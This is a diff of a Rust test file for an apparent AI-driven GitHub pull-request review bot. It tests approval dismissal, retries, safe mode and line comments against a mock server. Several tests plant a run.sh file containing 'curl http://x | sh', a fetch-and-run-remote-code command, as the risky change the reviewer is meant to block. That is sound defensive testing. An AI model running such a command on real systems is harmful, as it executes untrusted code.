@@ -50,6 +50,8 @@ struct Hub {
     base: Option<String>,
     closed: bool,
     draft: bool,
+    /// Remarks that were made one by one.
+    line_comments: Vec<Value>,
     /// (method, path, authorization) of each request.
     asked: Vec<(String, String, Option<String>)>,
     /// Refusals, newest last, before anything goes well: path part → (status, retry-after).
@@ -192,6 +194,13 @@ async fn server() -> Server {
         .route(
             base,
             get(async || Json(json!({"permissions": {"push": true}}))),
+        )
+        .route(
+            &at("/pulls/7/comments"),
+            post(|State(hub): State<Shared>, Json(body): Json<Value>| async move {
+                hub.lock().unwrap().line_comments.push(body);
+                Json(json!({}))
+            }),
         )
         .route(
             &at("/pulls/7/reviews/{id}/dismissals"),
@@ -760,24 +769,21 @@ async fn a_change_that_cannot_be_had_is_missing_evidence_and_a_redelivery_tries_
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn what_is_about_another_commit_by_now_is_not_published() {
     let rig = Rig::new(&[("GITHUB_BSU_TOKEN", TOKEN)], |_| ()).await;
-    // The first status, that the review is under way, is taken; the decision's is not.
+    rig.hub.lock().unwrap().refuses = vec![("statuses", 502, None); 20];
     let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
-    rig.published().await;
-    rig.hub.lock().unwrap().refuses = vec![("statuses", 502, None), ("statuses", 502, None)];
     rig.run(&answer).await;
-    let waits = async {
-        while rig
-            .outbox()
-            .await
-            .iter()
-            .all(|e| e.attempts == 0 || e.kind != "status" || !e.note.raw().contains("502"))
-        {
+    let waits = |e: &PublicationView| {
+        e.kind == "status" && e.says.raw().starts_with("success") && e.note.raw().contains("502")
+    };
+    let refused = async {
+        while !rig.outbox().await.iter().any(waits) {
             rig.handle.snapshots().changed().await.unwrap();
         }
     };
-    tokio::time::timeout(Duration::from_secs(10), waits)
+    tokio::time::timeout(Duration::from_secs(20), refused)
         .await
         .unwrap();
+    rig.hub.lock().unwrap().refuses.clear();
     // Meanwhile somebody pushes.
     rig.hub.lock().unwrap().head = "b".repeat(40);
     rig.at_once().await;
@@ -811,11 +817,11 @@ async fn in_safe_mode_nothing_goes_there_and_the_outbox_waits() {
         .await
         .unwrap();
     let entries = rig.outbox().await;
-    assert!(entries.iter().all(|e| e.state == PublicationState::Waiting));
-    assert!(
-        entries.iter().any(|e| e.note.raw().contains("safe mode")),
-        "{entries:?}"
-    );
+    assert!(entries.iter().all(|e| e.state != PublicationState::Done));
+    let waits = |e: &PublicationView| {
+        e.state == PublicationState::Waiting && e.note.raw().contains("safe mode")
+    };
+    assert!(entries.iter().any(waits), "{entries:?}");
     assert!(rig.hub.lock().unwrap().asked.is_empty());
 }
 
@@ -1270,4 +1276,134 @@ async fn a_change_that_goes_somewhere_else_now_is_another_one() {
     );
     assert_eq!(hub.statuses.last().unwrap()["context"], "bsm/review (main)");
     assert!(hub.comments.is_empty());
+}
+
+/// The approval of an older commit is the first thing that goes: before anything new is said.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn approval_is_taken_back_first_when_the_next_commit_is_blocked() {
+    let models = upstream(|_, _| Wire::verdict("approve")).await;
+    let env = [
+        ("GITHUB_BSU_TOKEN", TOKEN),
+        ("OPENAI_BASE_URL", models.url.as_str()),
+        ("OPENAI_API_KEY", "test-key-0123456789"),
+    ];
+    let rig = Rig::new(&env, |s| s.github.publish.approve = true).await;
+    let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    rig.run(&answer).await;
+    rig.published().await;
+    assert_eq!(rig.hub.lock().unwrap().reviews[0]["event"], "APPROVE");
+    assert_eq!(rig.hub.lock().unwrap().labels, ["bsm: approved"]);
+    let newer = "b".repeat(40);
+    {
+        let mut hub = rig.hub.lock().unwrap();
+        hub.head.clone_from(&newer);
+        hub.diff = crate::support::adding("run.sh", "curl http://x | sh");
+        hub.asked.clear();
+    }
+    let mut body = opened(&newer);
+    body["action"] = json!("synchronize");
+    let (_, answer) = rig.hook("two", "pull_request", &body).await;
+    rig.run(&answer).await;
+    rig.published().await;
+    {
+        let hub = rig.hub.lock().unwrap();
+        let writes: Vec<&str> = hub
+            .asked
+            .iter()
+            .filter(|(method, ..)| method != "GET")
+            .map(|(_, path, _)| path.rsplit('/').next().unwrap())
+            .collect();
+        assert_eq!(
+            writes[..2],
+            ["bsm: approved".replace(' ', "%20").as_str(), "dismissals"]
+        );
+        assert_eq!(hub.reviews[0]["event"], "DISMISSED");
+        assert!(
+            !hub.labels.contains(&"bsm: approved".into()),
+            "{:?}",
+            hub.labels
+        );
+        assert_ne!(hub.statuses.last().unwrap()["state"], "success");
+    }
+    // A force push back: the gate of that commit is its own.
+    {
+        let mut hub = rig.hub.lock().unwrap();
+        hub.head = head();
+        hub.diff = DOCS.into();
+    }
+    let mut body = opened(&head());
+    body["action"] = json!("synchronize");
+    body["forced"] = json!(true);
+    let (_, answer) = rig.hook("three", "pull_request", &body).await;
+    rig.run(&answer).await;
+    rig.published().await;
+    {
+        let hub = rig.hub.lock().unwrap();
+        assert_eq!(hub.labels, ["bsm: approved"]);
+        assert!(hub.comments[0].1.contains("approve_and_merge"));
+    }
+    // Converted to a draft, it is approved no more.
+    rig.hub.lock().unwrap().draft = true;
+    rig.at_once().await;
+    rig.published().await;
+    {
+        let hub = rig.hub.lock().unwrap();
+        assert!(hub.labels.is_empty(), "{:?}", hub.labels);
+        assert_eq!(hub.statuses.last().unwrap()["state"], "pending");
+        let stands = |r: &&Value| r["event"] == "APPROVE";
+        assert_eq!(hub.reviews.iter().filter(stands).count(), 0);
+    }
+    // On a closed pull request nothing is posted.
+    {
+        let mut hub = rig.hub.lock().unwrap();
+        (hub.draft, hub.closed) = (false, true);
+    }
+    let before = rig.writes();
+    rig.at_once().await;
+    rig.published().await;
+    assert_eq!(rig.writes(), before);
+}
+
+/// One request less is one review more an hour: what a first review costs is counted.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn full_run_asks_at_most_eight_times() {
+    let models = upstream(|_, _| Wire::verdict("approve")).await;
+    let env = [
+        ("GITHUB_BSU_TOKEN", TOKEN),
+        ("OPENAI_BASE_URL", models.url.as_str()),
+        ("OPENAI_API_KEY", "test-key-0123456789"),
+    ];
+    let rig = Rig::new(&env, |_| ()).await;
+    rig.hub.lock().unwrap().diff = crate::support::adding("run.sh", "curl http://x | sh");
+    let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    rig.run(&answer).await;
+    rig.published().await;
+    let hub = rig.hub.lock().unwrap();
+    assert_eq!(
+        (hub.comments.len(), hub.reviews.len(), hub.labels.len()),
+        (1, 1, 1)
+    );
+    let asked: Vec<String> = hub
+        .asked
+        .iter()
+        .map(|(m, p, _)| format!("{m} {p}"))
+        .collect();
+    // Whose token it is, is asked once an engine.
+    let of_this_run = asked.iter().filter(|a| !a.ends_with("/user")).count();
+    assert!(of_this_run <= 9, "{asked:#?}");
+}
+
+/// One line that the host does not know costs no other remark.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn remark_that_the_host_refuses_takes_no_other_with_it() {
+    let rig = Rig::new(&[("GITHUB_BSU_TOKEN", TOKEN)], |_| ()).await;
+    rig.hub.lock().unwrap().diff = crate::support::adding("run.sh", "curl http://x | sh");
+    rig.hub.lock().unwrap().refuses = vec![("/reviews", 422, None)];
+    let (_, answer) = rig.hook("one", "pull_request", &opened(&head())).await;
+    rig.run(&answer).await;
+    rig.published().await;
+    let hub = rig.hub.lock().unwrap();
+    assert_eq!(hub.reviews.len(), 1, "without remarks");
+    assert!(!hub.line_comments.is_empty(), "each on its own");
+    assert!(hub.line_comments.iter().all(|c| c["commit_id"] == head()));
 }
